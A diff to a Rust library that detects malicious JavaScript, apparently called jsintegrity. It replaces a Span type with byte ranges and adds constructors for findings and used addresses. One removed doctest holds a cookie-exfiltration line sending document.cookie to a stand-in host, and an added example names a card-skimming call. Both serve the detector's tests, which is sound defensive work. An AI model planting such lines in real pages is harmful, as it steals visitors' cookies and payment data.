@@ -3,6 +3,7 @@
 use std::borrow::Cow;
 use std::collections::BTreeSet;
 use std::fmt;
+use std::ops::Range;
 
 use crate::{Class, ClassSet, Score, ScriptDigests};
 
@@ -158,39 +159,6 @@ impl Limit {
     }
 }
 
-/// A half-open range of byte offsets in the script's text.
-///
-/// The text is the decoded script in UTF-8 without its byte order mark: for UTF-8 input without a mark the
-/// offsets are those of the input bytes.
-///
-/// ```
-/// # #[cfg(feature = "bundled-model")] {
-/// use jsintegrity::{Scorer, Span};
-///
-/// let script = "let a = 1;\nnew Image().src = '//c.example/?' + document.cookie;";
-/// let report = Scorer::bundled()?.score(script.as_bytes())?;
-/// let found = report.findings.iter().find(|found| found.signal == "cookies-sent").expect("a finding");
-/// let Span { start, end, .. } = found.span;
-/// assert!(script[start..end].contains("document.cookie"));
-/// # }
-/// # Ok::<(), jsintegrity::Error>(())
-/// ```
-#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, serde::Serialize, serde::Deserialize)]
-#[non_exhaustive]
-pub struct Span {
-    /// Offset of the first byte, from 0.
-    pub start: usize,
-    /// Offset of the byte after the last.
-    pub end: usize,
-}
-
-impl Span {
-    #[cfg(feature = "scorer")]
-    pub(crate) fn new(start: usize, end: usize) -> Self {
-        Self { start, end }
-    }
-}
-
 /// How much a finding weighs for a person who reads it.
 ///
 /// ```
@@ -226,15 +194,30 @@ pub enum Severity {
 /// # }
 /// # Ok::<(), jsintegrity::Error>(())
 /// ```
-#[derive(Clone, Debug, PartialEq, serde::Serialize)]
+///
+/// A scorer of your own makes its own:
+///
+/// ```
+/// use jsintegrity::{Class, ClassSet, Finding, Severity};
+///
+/// let source = "let a;\nsend(form.card)";
+/// let mut finding = Finding::new("form-sent", "Form fields are sent away.", Severity::High);
+/// finding.span = 7..22;
+/// (finding.line, finding.column) = (2, 1);
+/// finding.snippet = source[finding.span.clone()].to_owned();
+/// finding.classes = ClassSet::of(Class::Magecart);
+/// assert_eq!(finding.snippet, "send(form.card)");
+/// ```
+#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
 #[non_exhaustive]
 pub struct Finding {
     /// The signal's stable id, such as `cookies-sent`, or that of a signature behind [`SIGNATURE_PREFIX`].
     pub signal: Cow<'static, str>,
     /// One sentence about the signal for a site owner.
     pub description: Cow<'static, str>,
-    /// Where it is.
-    pub span: Span,
+    /// Byte offsets in the script's text, from 0; the end does not belong to it. The text is the decoded script in UTF-8 without
+    /// its byte order mark: for UTF-8 input without a mark the offsets are those of the input bytes.
+    pub span: Range<usize>,
     /// Line of the span's start, from 1.
     pub line: u32,
     /// Column of the span's start in characters, from 1.
@@ -251,6 +234,25 @@ pub struct Finding {
 pub const SIGNATURE_PREFIX: &str = "signature:";
 
 impl Finding {
+    /// A finding at the start of the script, without a snippet; the fields are public for the rest.
+    #[must_use]
+    pub fn new(
+        signal: impl Into<Cow<'static, str>>,
+        description: impl Into<Cow<'static, str>>,
+        severity: Severity,
+    ) -> Self {
+        Self {
+            signal: signal.into(),
+            description: description.into(),
+            span: 0..0,
+            line: 1,
+            column: 1,
+            snippet: String::new(),
+            severity,
+            classes: ClassSet::default(),
+        }
+    }
+
     /// The id of the signature that this finding is of; `None` for a finding by a signal.
     ///
     /// ```
@@ -313,7 +315,7 @@ impl Usage {
 /// # }
 /// # Ok::<(), jsintegrity::Error>(())
 /// ```
-#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize)]
+#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
 #[non_exhaustive]
 pub struct UsedAddress {
     /// The address, as far as the script spells it out; parts added at run time are unknown.
@@ -322,12 +324,40 @@ pub struct UsedAddress {
     pub usage: Usage,
     /// The word that does it, such as `src`, `fetch` or `write`.
     pub by: String,
-    /// Where that is done.
-    pub span: Span,
+    /// Where that is done, in byte offsets as in a [`Finding`].
+    #[serde(default)]
+    pub span: Range<usize>,
     /// Line of the span's start, from 1.
     pub line: u32,
     /// Column of the span's start in characters, from 1.
     pub column: u32,
+}
+
+impl UsedAddress {
+    /// A use at the start of the script; the fields are public for the rest.
+    ///
+    /// ```
+    /// use jsintegrity::{Usage, UsedAddress};
+    ///
+    /// let mut used = UsedAddress::new("https://cdn.example/a.js", Usage::Loads, "src");
+    /// used.line = 3;
+    /// assert_eq!(used.to_string(), "line 3: src loads https://cdn.example/a.js");
+    /// ```
+    #[must_use]
+    pub fn new(address: impl Into<String>, usage: Usage, by: impl Into<String>) -> Self {
+        Self { address: address.into(), usage, by: by.into(), span: 0..0, line: 1, column: 1 }
+    }
+}
+
+impl fmt::Display for UsedAddress {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        let does = match self.usage {
+            Usage::Loads => "loads",
+            Usage::Navigates => "navigates to",
+            Usage::Sends => "sends to",
+        };
+        write!(f, "line {}: {} {does} {}", self.line, self.by, self.address)
+    }
 }
 
 /// The answer for one script.
